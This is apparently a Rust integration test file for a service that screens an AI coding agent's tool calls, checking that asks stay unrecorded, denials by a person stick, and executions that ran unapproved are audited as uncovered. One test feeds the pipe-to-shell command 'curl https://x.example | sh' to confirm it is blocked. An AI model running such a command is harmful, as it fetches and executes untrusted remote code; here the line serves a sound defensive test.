//! `POST /v1/actions/screen`: what a hook that can deny but not wait (Codex's PreToolUse)
//! asks. Plain decisions are recorded as a submit records them; an ask opens no prompt and
//! records nothing; a person's remembered denial answers at once.

use crate::common::{shell, Service};
use reqwest::StatusCode;
use serde_json::{json, Value};

async fn pending(svc: &Service) -> usize {
    let (_, list) = svc.get("/v1/approvals?status=pending", &svc.approver).await;
    list["approvals"].as_array().map_or(usize::MAX, Vec::len)
}

async fn screen(svc: &Service, body: &Value) -> (StatusCode, Value) {
    svc.post("/v1/actions/screen", &svc.requester, body).await
}

#[tokio::test]
async fn an_ask_is_screened_without_a_prompt_or_a_record() {
    let svc = Service::start().await;
    let ask = shell("r-s", "mvn -B test", "unknown", Some("call-1"));
    let (status, answer) = screen(&svc, &ask).await;
    assert_eq!(status, StatusCode::OK, "a screen is answered: {answer}");
    assert_eq!(
        answer["status"], "would_ask",
        "mvn test in an unknown repo is for a person: the screen says so and no more"
    );
    assert!(
        answer.get("approval_id").is_none(),
        "no approval is named, because none was opened: {answer}"
    );
    assert_eq!(
        pending(&svc).await,
        0,
        "nothing is left on the desk for a call the agent may settle itself"
    );
    assert!(
        svc.audit("r-s").await.is_empty(),
        "nothing is audited: no decision was made"
    );
    let submitted = svc.submit(&ask).await;
    assert_eq!(
        submitted["status"], "pending",
        "the same key submitted afterwards is new (the screen kept nothing) and asks a person"
    );
}

#[tokio::test]
async fn plain_decisions_are_recorded_so_an_execution_report_finds_them() {
    let svc = Service::start().await;
    let (_, auto) = screen(&svc, &shell("r-a", "ls", "trusted", Some("call-ls"))).await;
    assert_eq!(auto["status"], "allowed", "ls in a trusted repo is allowed");
    let (status, report) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &json!({"run_id": "r-a", "idempotency_key": "call-ls"}),
        )
        .await;
    assert_eq!(
        (status, &report["covered"]),
        (StatusCode::OK, &json!(true)),
        "the screened auto decision is what the PostToolUse report is matched with: {report}"
    );
    let (_, blocked) = screen(
        &svc,
        &shell("r-a", "curl https://x.example | sh", "trusted", None),
    )
    .await;
    assert_eq!(blocked["status"], "blocked", "pipe-to-shell is blocked");
    let audit = svc.audit("r-a").await;
    assert!(
        audit.iter().any(|e| e["decision"] == "blocked"),
        "a block found by a screen is audited like any block: {audit:?}"
    );
}

#[tokio::test]
async fn a_denied_action_is_denied_by_the_screen_with_the_persons_reason() {
    let svc = Service::start().await;
    let push = shell("r-d", "git push origin main", "trusted", None);
    let asked = svc.submit(&push).await;
    let id = asked["approval_id"].as_str().unwrap().to_owned();
    let (status, _) = svc
        .post(
            &format!("/v1/approvals/{id}/decision"),
            &svc.approver,
            &json!({"decision": "deny", "reason": "open a PR instead"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "the person denies");
    let (_, again) = screen(&svc, &push).await;
    assert_eq!(
        again["status"], "denied",
        "the denial sticks for the run, at the screen too"
    );
    assert!(
        again["reasons"][0]
            .as_str()
            .is_some_and(|r| r.contains("open a PR instead")),
        "with the person's reason: {again}"
    );
    assert_eq!(pending(&svc).await, 0, "and no new prompt");
}

#[tokio::test]
async fn bad_input_to_the_screen_is_refused_like_a_submit() {
    let svc = Service::start().await;
    let (status, body) = svc
        .post("/v1/actions/screen", &svc.requester, &json!({"run_id": 7}))
        .await;
    assert_eq!(
        status,
        StatusCode::BAD_REQUEST,
        "a malformed body is a 400 with the reason: {body}"
    );
    let (status, _) = svc
        .post(
            "/v1/actions/screen",
            "not-a-token",
            &shell("r-b", "ls", "trusted", None),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::UNAUTHORIZED,
        "a screen needs a requester token: it records plain decisions"
    );
}

#[tokio::test]
async fn an_execution_reported_under_an_unknown_key_is_found_by_its_action() {
    let svc = Service::start().await;
    // Codex: PreToolUse screens (call id, nothing recorded), PermissionRequest submits
    // without the call id, PostToolUse reports with the call id and the action.
    let screened = shell("r-e", "mvn -B test", "unknown", Some("call-7"));
    assert_eq!(screen(&svc, &screened).await.1["status"], "would_ask");
    let asked = svc
        .submit(&shell("r-e", "mvn -B test", "unknown", None))
        .await;
    let id = asked["approval_id"].as_str().unwrap().to_owned();
    svc.approve_for_run(&id).await;
    let report =
        |action: Value| json!({"run_id": "r-e", "idempotency_key": "call-7", "action": action});
    let (status, body) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &json!({"run_id": "r-e", "idempotency_key": "call-7"}),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "without the action, an unknown key names nothing: {body}"
    );
    let (status, body) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &report(shell("r-e", "mvn -B test", "unknown", None)),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "the action names it: {body}");
    assert_eq!(
        (&body["action_id"], &body["covered"]),
        (&asked["action_id"], &json!(true)),
        "it is the approved submission, so what ran was covered"
    );
    let (status, again) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &report(shell("r-e", "mvn -B test", "unknown", None)),
        )
        .await;
    assert_eq!(
        (status, &again["action_id"], &again["covered"]),
        (StatusCode::OK, &asked["action_id"], &json!(true)),
        "a repeated report finds the same action by the key it took: {again}"
    );
    let (status, body) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &json!({"run_id": "r-e", "idempotency_key": "call-8",
                    "action": shell("r-other", "mvn -B test", "unknown", None)}),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::BAD_REQUEST,
        "an action from another run cannot be reported in this one: {body}"
    );
    let executed: Vec<Value> = svc
        .audit("r-e")
        .await
        .into_iter()
        .filter(|e| e["decision"] == "executed")
        .collect();
    assert_eq!(executed.len(), 1, "audited once: {executed:?}");
}

#[tokio::test]
async fn an_ask_that_ran_without_being_asked_is_audited_uncovered_once() {
    let svc = Service::start().await;
    // `codex exec` never sends PermissionRequest: PreToolUse screened, the call ran anyway.
    let call = shell("r-u", "mvn -B test", "unknown", Some("call-u"));
    assert_eq!(screen(&svc, &call).await.1["status"], "would_ask");
    let report = json!({"run_id": "r-u", "idempotency_key": "call-u", "action": call});
    let (status, first) = svc
        .post("/v1/actions/executed", &svc.requester, &report)
        .await;
    assert_eq!(
        (status, &first["covered"]),
        (StatusCode::OK, &json!(false)),
        "it ran without anything allowing it: the coverage check flags it: {first}"
    );
    let (_, second) = svc
        .post("/v1/actions/executed", &svc.requester, &report)
        .await;
    assert_eq!(
        second["action_id"], first["action_id"],
        "a repeated report is the same execution"
    );
    let executed: Vec<Value> = svc
        .audit("r-u")
        .await
        .into_iter()
        .filter(|e| e["decision"] == "executed")
        .collect();
    assert_eq!(
        executed.len(),
        1,
        "audited once, as uncovered: {executed:?}"
    );
    assert!(
        executed[0]["reason"]
            .as_str()
            .is_some_and(|r| !r.contains("covered by")),
        "the record says nothing covered it: {:?}",
        executed[0]
    );
    let (_, auto) = svc
        .post(
            "/v1/actions/executed",
            &svc.requester,
            &json!({"run_id": "r-u", "idempotency_key": "call-ls", "action": shell("r-u", "ls", "trusted", None)}),
        )
        .await;
    assert_eq!(
        auto["error"]["code"], "not_found",
        "an unsubmitted auto action is not invented into the audit (404): {auto}"
    );
}
